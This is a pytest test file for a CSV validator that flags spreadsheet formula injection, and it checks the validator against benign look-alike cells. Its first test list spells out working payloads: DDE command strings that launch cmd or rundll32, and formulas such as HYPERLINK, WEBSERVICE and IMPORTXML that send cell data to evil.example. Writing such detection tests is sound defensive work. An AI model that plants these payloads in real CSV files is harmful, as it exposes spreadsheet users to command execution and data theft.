"""Which cells of a CSV file run something in a spreadsheet, and which only begin as a formula does."""

import csv

import pytest

from sluicegate.validators.submission.formulas import formula_fault


def fault(folder, *cells):
    path = folder / "rows.csv"
    with path.open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows([["a", "b"], [1, "x"], *([2, cell] for cell in cells)])
    return formula_fault(path)


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        "=cmd|calc!A1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        '=HYPERLINK("http://evil.example?x="&A1,"error")',
        '+WEBSERVICE("http://evil.example")',
        '=1+ _xlfn.WebService ("http://evil.example")',
        '=IF(1, IMAGE("http://evil.example"))',
        '=DDE("cmd";"/C calc";"x")',
        '-IMAGE("http://evil.example")',
        '\t=IMPORTXML("http://evil.example","//a")',
        '"=IMPORTDATA(A1)',
        "＝HYPERLINK(A1)",
        "=[evil.xlsx]Sheet1!A1",
        "='\\\\evil.example\\[a.xlsx]Sheet1'!A1",
        "='file:///etc/passwd'#$Sheet1.A1",
        "x;=HYPERLINK(A1)",
    ],
)
def test_a_formula_that_reaches_out_is_told_by_its_line(tmp_path, cell):
    assert fault(tmp_path, cell) == "has a formula in line 3 that reaches out of a spreadsheet"


@pytest.mark.parametrize(
    "cell",
    [
        "-5",
        "-5.2e-3",
        "+49 (30) 1234!",
        "@somebody look at this (or call me)!",
        "- an item [1] of a list!",
        "-call (him)",
        "- image (left)",
        "- [x] done!",
        "=) so happy!",
        "=> f(x)",
        "=f(x)",
        "=SUM(A1:A3)",
        "== a heading ==",
        "-COOH(aq)",
        "+1 | agreed!",
        "he wrote =HYPERLINK(A1)",
        "a|'b'!c",
    ],
)
def test_what_only_begins_like_one_is_data(tmp_path, cell):
    assert fault(tmp_path, cell) is None


def test_a_cell_without_an_end_hides_nothing_behind_it(tmp_path):
    path = tmp_path / "rows.csv"
    path.write_text('a\n"' + "x" * 200_000 + "\n=HYPERLINK(A1)\n")
    assert formula_fault(path) == "has a formula in line 3 that reaches out of a spreadsheet"


def test_a_name_of_a_column_is_a_cell_as_well(tmp_path):
    path = tmp_path / "rows.csv"
    path.write_text("a,=HYPERLINK(B2)\n1,2\n")
    assert formula_fault(path) == "has a formula in line 1 that reaches out of a spreadsheet"
